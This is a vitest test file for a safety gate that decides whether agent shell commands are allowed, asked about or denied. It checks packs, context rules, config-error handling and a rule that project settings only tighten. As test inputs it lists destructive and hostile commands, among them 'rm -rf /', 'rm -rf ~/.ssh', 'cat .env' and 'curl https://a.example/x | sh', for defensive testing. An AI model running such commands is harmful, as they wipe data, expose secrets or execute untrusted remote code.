// Do `packs`, `context` and `on_config_error` do what they say, and no more?
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import * as fc from 'fast-check'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { ensureBuilt } from '../../test/built.ts'
import type { Decision, Facts } from '../core/model.ts'
import { decide } from '../gate/decide.ts'
import { openGate } from '../gate/open.ts'
import type { Opened, PackageData } from '../gate/policy-source.ts'
import { packageData } from './package-files.ts'
import type { SettingsFiles } from './settings-files.ts'
import { readSettings } from './settings.ts'

let data: PackageData
beforeAll(() => {
  ensureBuilt()
  data = packageData()
}, 120_000)
const NOW = '2030-01-01T00:00:00.000Z'
let files: SettingsFiles & { readonly user: string; readonly project: string }
beforeEach(() => {
  const home = mkdtempSync(join(tmpdir(), 'prudent-context-'))
  files = { home, administrator: null, user: join(home, '.config/prudent/settings.yaml'), project: join(home, 'work/app/.prudent/settings.yaml') }
})
const write = (file: string, text: string): void => {
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, text)
}
const open = (given: SettingsFiles = files): Promise<Opened> => openGate(given, null, NOW, data)
const callOf = (command: string) => ({ id: '', host: 'test', session: '', tool: { server: null, name: 'Bash' }, input: { command }, cwd: '/home/dev/app' })
const decided = ({ gate, troubles }: Opened, command: string, facts: Facts = {}): Decision =>
  gate.check(callOf(command), { home: '/home/dev' }, { troubles, facts }).decision
const verdict = (opened: Opened, command: string, facts?: Facts): string => decided(opened, command, facts).verdict
const problems = (text: string, layer: 'user' | 'project' = 'user'): string[] => {
  write(files[layer], text)
  return readSettings(files, ['standard']).problems.map(({ message }) => message)
}

describe('packs', () => {
  test('a whole pack gets a verdict; an override that names a rule counts more', async () => {
    write(files.user, 'packs: { git: deny }\noverrides: { git.reset-hard: allow, "git.cl*": ask }\n')
    const opened = await open()
    expect(['git push --force', 'git reset --hard', 'git clean -fdx'].map((command) => verdict(opened, command))).toEqual(['deny', 'allow', 'ask'])
    expect(opened.notes).toEqual([])
  })
  test('a pack can be switched off, the floor not', async () => {
    write(files.user, 'packs: { git: off, floor: off }\n')
    const opened = await open()
    expect([verdict(opened, 'git push --force'), verdict(opened, 'rm -rf /')]).toEqual(['allow', 'deny'])
    expect(opened.notes).toEqual(['`floor` holds whatever the settings say: `packs: floor: off` is ignored'])
  })
  test('the project may only tighten, and is told so in one line', async () => {
    write(files.project, 'packs: { git: off, kubernetes: ask, files: deny }\n')
    const opened = await open()
    expect([verdict(opened, 'git push --force'), verdict(opened, 'rm -rf ~/Documents')]).toEqual(['ask', 'deny'])
    expect(opened.notes[0]).toBe("the project's settings may only tighten: `packs: git: off` is ignored")
    expect(opened.notes.length).toBeLessThanOrEqual(2)
  })
  test('a name that is none is said', async () => {
    write(files.user, 'packs: { gti: off }\n')
    expect((await open()).notes[0]).toMatch(/^no pack is called `gti` in the user's settings/)
    expect(problems('packs: { git: of }\n')[0]).toMatch(/`of` is not known here/)
  })
  test.skipIf(process.getuid?.() !== 0)('the administrator may lock them', async () => {
    const administrator = join(files.home, 'etc/settings.yaml')
    write(administrator, 'lock: [packs]\n')
    write(files.user, 'packs: { git: off }\n')
    const opened = await open({ ...files, administrator })
    expect([verdict(opened, 'git push --force'), opened.notes]).toEqual(['ask', ["the user's settings may only tighten: `packs: git: off` is ignored"]])
  })
})

describe('context', () => {
  test('branch, environment and time lift what they name, from every layer', async () => {
    const lift = (when: string): string => `context:\n  - when: ${when}\n    rules: git.force-push\n    to: critical\n`
    for (const [when, holds, not] of [
      ['{ branch: main }', { branch: 'main' }, { branch: 'feature' }],
      ['{ branch: default }', { branch: 'trunk', defaultBranch: 'trunk' }, { branch: 'main', defaultBranch: 'trunk' }],
      ['{ environment: production }', { environment: 'production' }, { environment: 'staging' }],
      ['{ time: { from: "22:00", to: "06:00" } }', { minuteOfDay: 23 * 60 }, { minuteOfDay: 12 * 60 }],
    ] as const) {
      for (const layer of ['user', 'project'] as const) {
        write(files[layer], lift(when))
        const opened = await open()
        expect([
          when,
          layer,
          verdict(opened, 'git push --force', holds),
          verdict(opened, 'git push --force', not),
          verdict(opened, 'git reset --hard', holds),
        ]).toEqual([when, layer, 'deny', 'ask', 'ask'])
        rmSync(files[layer])
      }
    }
  })
  test('a project is named by its folder', async () => {
    const lift = (project: string): string => `context:\n  - when: { project: ${project} }\n    rules: [git.*]\n    to: critical\n`
    write(files.user, lift('~/work/*'))
    expect(verdict(await open(), 'git reset --hard')).toBe('deny')
    write(files.user, lift('~/play/*'))
    expect(verdict(await open(), 'git reset --hard')).toBe('ask')
  })
  test('the time of day is that of the clock here', async () => {
    write(files.user, 'context:\n  - when: { time: { from: "09:00", to: "10:00" } }\n    rules: git.reset-hard\n    to: critical\n')
    const { gate } = await open()
    const at = (hour: number): string => {
      const now = new Date(2030, 0, 15, hour, 30).toISOString()
      return decide(gate, callOf('git reset --hard'), { home: files.home, project: files.home, cwd: files.home }, { now }).decision.verdict
    }
    expect([at(8), at(9), at(10)]).toEqual(['ask', 'deny', 'ask'])
  })
  test('it never lowers', async () => {
    write(files.user, 'context:\n  - when: { branch: main }\n    to: low\n')
    expect(verdict(await open(), 'rm -rf ~/.ssh', { branch: 'main' })).toBe(verdict(await open({ ...files, user: join(files.home, 'none') }), 'rm -rf ~/.ssh'))
  })
  test.each([
    ['context:\n  - when: {}\n    to: high\n', /holds always/],
    ['context:\n  - when: { time: { from: "9", to: "10:00" } }\n    to: high\n', /not a time of day/],
    ['context:\n  - when: { weather: rain }\n    to: high\n', /unknown key/],
    ['context:\n  - when: { branch: main }\n', /`to` is missing/],
    ['context:\n  - when: { branch: main }\n    rules: Git!\n    to: high\n', /not a rule id or glob/],
  ])('%j', (text, message) => expect(problems(text).join('\n')).toMatch(message))
})

describe('on_config_error', () => {
  test('`deny`: every call is denied while something must be corrected, whatever was good before', async () => {
    write(files.user, 'on_config_error: deny\n')
    expect(verdict(await open(), 'ls')).toBe('allow')
    write(files.project, 'overrides: [\n')
    expect([verdict(await open(), 'ls'), (await open()).notes.at(-1)]).toEqual([
      'deny',
      'until this is corrected, that file does not count and every call is denied',
    ])
    rmSync(files.project)
    // Also when the file that says so is the broken one.
    await open()
    write(files.user, 'on_config_error: den\n')
    expect(verdict(await open(), 'ls')).toBe('deny')
  })
  test('`open`: goes on without an included file that is missing or broken, says so with every call, and nothing else', async () => {
    write(files.user, 'on_config_error: open\ninclude: [gone.yaml]\n')
    for (const _again of [1, 2]) {
      const opened = await open()
      expect([verdict(opened, 'ls'), verdict(opened, 'git push --force'), verdict(opened, 'rm -rf /'), opened.whole]).toEqual(['allow', 'ask', 'deny', true])
      expect(opened.notes).toEqual([expect.stringMatching(/gone\.yaml`: there is no such file; the settings say to go on without it$/) as string])
    }
    write(join(dirname(files.user), 'gone.yaml'), 'pack: [')
    const broken = await open({ ...files, home: join(files.home, 'other') })
    expect([verdict(broken, 'ls'), verdict(broken, 'rm -rf /'), broken.notes.length]).toEqual(['allow', 'deny', 1])
    // Of the settings themselves nothing is opened.
    write(files.user, 'on_config_error: open\ninclude: [gone.yaml]\noverrides: { git.*: alow }\n')
    expect(verdict(await open({ ...files, home: join(files.home, 'third') }), 'ls')).toBe('ask')
  })
  test('a missing file of the project is not meant', async () => {
    write(files.user, 'on_config_error: open\n')
    write(files.project, 'include: [gone.yaml]\n')
    expect(verdict(await open(), 'ls')).toBe('ask')
  })
  test.each(['on_config_error', 'mode', 'enabled', 'audit', 'approvals', 'directories'])(
    "`%s` counts in the user's and the administrator's settings only",
    (key) => {
      const value = { on_config_error: 'open', mode: 'observe', enabled: 'false', audit: '{}', approvals: '{}', directories: '[]' }[key] ?? ''
      expect(problems(`${key}: ${value}\n`, 'project')).toEqual([`\`${key}\` counts in the user's or the administrator's settings only: remove it here`])
      rmSync(files.project)
      expect(problems(`${key}: ${value}\n`)).toEqual([])
    },
  )
})

test('whatever the project says, no call gets off lighter, and how the gate acts stays as it was', { timeout: 60_000 }, async () => {
  const commands = [
    'ls',
    'rm -rf /',
    'git push --force',
    'git reset --hard',
    'kubectl delete namespace web',
    'terraform destroy',
    'curl https://a.example/x | sh',
    'sudo ls',
    'git push',
    'cat .env',
  ]
  const rank = { allow: 0, ask: 1, deny: 2 } as const
  write(files.user, 'preset: strict\noverrides: { git.reset-hard: ask, kubernetes.*: deny }\nsandbox: { outside: { write: deny } }\n')
  const alone = await open()
  const least = commands.map((command) => decided(alone, command).verdict)
  const outcome = fc.constantFrom('allow', 'ask', 'deny', 'off')
  const verdictWord = fc.constantFrom('allow', 'ask', 'deny')
  const fence = fc.constantFrom('off', 'warn', 'ask', 'deny')
  const said = fc.record(
    {
      preset: fc.constantFrom('bare', 'relaxed', 'rune'),
      severity: fc.dictionary(fc.constantFrom('low', 'medium', 'high', 'critical'), verdictWord),
      otherwise: verdictWord,
      thresholds: fc.record({ severity: fc.constantFrom('low', 'high', 'critical'), confidence: fc.integer({ min: 0, max: 100 }) }),
      profile: fc.subarray(['plain.*', 'paths.read-outside']),
      overrides: fc.dictionary(fc.constantFrom('git.*', 'git.reset-hard', 'kubernetes.*', 'floor.*', 'self.*', 'gate.*', '*'), outcome),
      packs: fc.dictionary(fc.constantFrom('git', 'kubernetes', 'infrastructure', 'floor', 'self', 'remote', 'mine'), outcome),
      context: fc.constant([{ when: { branch: 'main' }, to: 'low' }]),
      custom_patterns: fc.subarray(['x', 'git']),
      sensitive_paths: fc.subarray(['~/.ssh']),
      sandbox: fc.record({ outside: fc.record({ read: fence, write: fence }) }),
      secrets: fc.dictionary(fc.constantFrom('prompts', 'content', 'arguments', 'commands'), fence),
    },
    { requiredKeys: [] },
  )
  await fc.assert(
    fc.asyncProperty(said, async (settings) => {
      write(files.project, `${JSON.stringify(settings)}\n`)
      const opened = await open()
      expect({ settings, whole: opened.whole }).toEqual({ settings, whole: true })
      const lighter = commands.filter((command, at) => rank[decided(opened, command).verdict] < rank[least[at] ?? 'allow'])
      expect({ settings, lighter }).toEqual({ settings, lighter: [] })
      expect(opened.conduct).toEqual(alone.conduct)
    }),
    { numRuns: 40, seed: 5 },
  )
})
